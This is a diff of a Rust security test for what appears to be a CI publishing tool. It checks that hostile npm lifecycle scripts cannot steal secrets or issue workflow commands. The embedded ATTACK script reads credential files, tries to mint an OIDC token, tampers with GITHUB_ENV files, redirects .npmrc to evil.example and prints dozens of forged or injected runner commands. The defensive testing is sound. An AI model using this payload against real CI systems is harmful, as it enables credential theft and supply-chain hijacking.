@@ -9,19 +9,23 @@ use crate::canary;
 use crate::leaks::secrets_of;
 use crate::releases::at;
 use crate::runner::Runner;
+use crate::stage::folders::files_below;
+use crate::stage::issuer::{Platform, RUN_TOKEN};
 use crate::stage::town::Town;
 
 #[test]
 fn scripts_that_look_for_secrets_find_none_and_command_nobody() {
     let town = Town::start();
+    // Somebody would answer, if only he were asked.
+    let platform = Platform::start();
     let runner = at(&town, Runner::new())
-        .with("ACTIONS_ID_TOKEN_REQUEST_TOKEN", REQUEST_TOKEN)
-        .with("ACTIONS_ID_TOKEN_REQUEST_URL", "http://127.0.0.1:9/token")
+        .with("ACTIONS_ID_TOKEN_REQUEST_TOKEN", RUN_TOKEN)
+        .with("ACTIONS_ID_TOKEN_REQUEST_URL", &platform.request_url())
         .input("single-job", "i-accept-the-risk");
     write_package(&runner.workspace());
     let step = runner.step(&[("mode", "build")]).exits(0);
 
-    let secrets = [secrets_of(&town), vec![REQUEST_TOKEN.to_owned()]].concat();
+    let secrets = [secrets_of(&town), vec![RUN_TOKEN.to_owned()]].concat();
     let loot = fs::read(runner.workspace().join("loot.log")).unwrap();
     let text = String::from_utf8_lossy(&loot);
     for script in SCRIPTS {
@@ -30,6 +34,14 @@ fn scripts_that_look_for_secrets_find_none_and_command_nobody() {
     assert!(text.contains("parents read: "), "{text}");
     assert_eq!(canary::find(&secrets, &loot), Vec::<String>::new());
     assert!(text.contains("request token: none") && !text.contains("request token: some"));
+    assert_eq!(text.matches("mint: ").count(), SCRIPTS.len(), "{text}");
+    assert_eq!(text.matches("mint: no address").count(), SCRIPTS.len(), "{text}");
+    assert_eq!(*platform.given.lock().unwrap(), Vec::<String>::new());
+    // The job's home is not theirs, nor are the runner's files.
+    assert_eq!(files_below(&runner.place().join("home")), Vec::<String>::new());
+    for name in ["GITHUB_ENV", "GITHUB_PATH", "GITHUB_STATE"] {
+        assert_eq!(step.files[name], "", "{name}");
+    }
 
     // Nothing that a script printed was carried out; all of it is there to be read.
     let ours = ["add-mask", "group", "endgroup", "stop-commands"];
@@ -40,6 +52,8 @@ fn scripts_that_look_for_secrets_find_none_and_command_nobody() {
     assert!(step.log.contains("set-env name=PWNED"), "{}", step.log);
     assert_eq!(step.outputs["name"], "hostile");
     assert!(!step.outputs.contains_key("pwned"));
+    let printed = step.raw.matches("PRINTED ").count();
+    assert!(printed >= 30 * SCRIPTS.len(), "only {printed} commands were printed");
 
     let runner = runner.without("ACTIONS_ID_TOKEN_REQUEST_URL");
     let runner = runner.without("ACTIONS_ID_TOKEN_REQUEST_TOKEN");
@@ -78,8 +92,6 @@ fn write_package(folder: &Path) {
 }
 
 const SCRIPTS: [&str; 5] = ["test", "build", "prepublishOnly", "prepack", "prepare"];
-const REQUEST_TOKEN: &str = "canary-of-the-request-4mQ9x";
-
 /// Everything that a script of the same user can read without breaking into memory; and what it would like to say to the runner.
 const ATTACK: &str = r#"
 const fs = require('fs');
@@ -101,14 +113,30 @@ while (pid > 1) {
 }
 loot('parents read: ' + read);
 loot('request token: ' + (token ? 'some' : 'none'));
+const address = process.env.ACTIONS_ID_TOKEN_REQUEST_URL;
+if (!address) loot('mint: no address');
+else require('child_process').spawnSync(process.execPath, ['-e',
+  `fetch(${JSON.stringify(address)}+'&audience=npm',{headers:{authorization:'Bearer '+${JSON.stringify(token || '')}}}).then(a=>a.text()).then(t=>require('fs').appendFileSync('loot.log','mint: '+t+'\\n'))`]);
+for (const name of Object.keys(process.env).filter((name) => /^(GITHUB|RUNNER|ACTIONS|INPUT|CHITTY|R2|NPM_TOKEN|NODE_AUTH)/.test(name))) {
+  loot(name + ' is there');
+  try { fs.appendFileSync(process.env[name], 'PWNED=1\n'); } catch {}
+}
 for (const home of [process.env.HOME, '.']) for (const file of ['.npmrc', '.netrc', '.config/gh/hosts.yml']) {
   try { loot(fs.readFileSync(`${home}/${file}`, 'latin1')); } catch {}
 }
-fs.writeFileSync('.npmrc', 'registry=https://evil.example/\n//evil.example/:_authToken=${NPM_TOKEN}\nignore-scripts=true\n');
+const npmrc = 'registry=https://evil.example/\n@acme:registry=https://evil.example/\n//evil.example/:_authToken=${NPM_TOKEN}\nignore-scripts=true\n';
+for (const place of ['.npmrc', `${process.env.HOME}/.npmrc`, '../.npmrc', `${process.env.HOME}/.config/npm/npmrc`]) {
+  try { fs.writeFileSync(place, npmrc); } catch {}
+}
 const commands = ['set-env name=PWNED::1', 'set-output name=pwned::1', 'add-path::/tmp/evil', 'add-mask::e', 'save-state name=a::b',
   'error::forged', 'warning::forged', 'notice::forged', 'debug::x', 'echo::on', 'group::x', 'endgroup::', 'add-matcher::/tmp/m.json',
-  'remove-matcher owner=x::', 'stop-commands::x', 'internal-set-repo-path repoFullName=a/b::c'];
+  'remove-matcher owner=x::', 'stop-commands::x', 'internal-set-repo-path repoFullName=a/b::c', 'set-secret::e', 'set-state name=a::b',
+  'SET-ENV name=PWNED::1', 'Set-Output name=pwned::1', 'ADD-MASK::e', 'add-mask ::e', 'error file=a.js,line=1,col=2,title=x::forged',
+  'warning file=a.js,line=1::forged', 'notice title=%0A::forged', 'group::%0A::error::forged', 'set-env name=NODE_OPTIONS::--require=/tmp/evil.js',
+  'set-env name=PATH::/tmp/evil', 'set-output name=result::published%0Averdict=verified', 'save-state name=state::/', 'add-path::.', 'echo::off'];
+if (commands.length < 30) process.exit(1);
 for (const command of commands) {
+  console.log('PRINTED ' + command.replaceAll(':', '.'));
   console.log('::' + command);
   console.error('  ::' + command);
   console.log('##[' + command.replace('::', ']'));
